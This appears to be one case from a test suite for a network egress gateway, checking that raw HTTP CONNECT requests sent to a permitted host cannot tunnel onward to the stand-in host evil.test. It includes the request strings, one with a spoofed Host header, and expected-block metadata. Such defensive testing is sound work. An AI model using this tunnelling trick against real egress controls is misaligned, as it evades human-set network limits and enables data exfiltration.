"""The permitted host as a proxy: CONNECT on an ordinary connection.

If the permitted host, or a box in front of it, answers CONNECT, it carries the worker on to
anywhere, and the record shows the permitted name.

Not covered: proxies that are spoken to inside TLS, and pages of the host that fetch others.
"""

ATTACK = {
    "title": "CONNECT on a connection to a permitted host",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-441", "CWE-918", "R069", "RFC 9110 section 9.3.6"],
    "arrives": [{"what": "request", "path": "evil.test:443"}],
    "stopped": [{"reason": ["name-mismatch"], "entry": ["transparent"]}],
}


def attempt(kit):
    kit.talk(
        "allowed.test", 80, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", patience=0.1
    )
    kit.talk("allowed.test", 80, "CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n", patience=0.1)
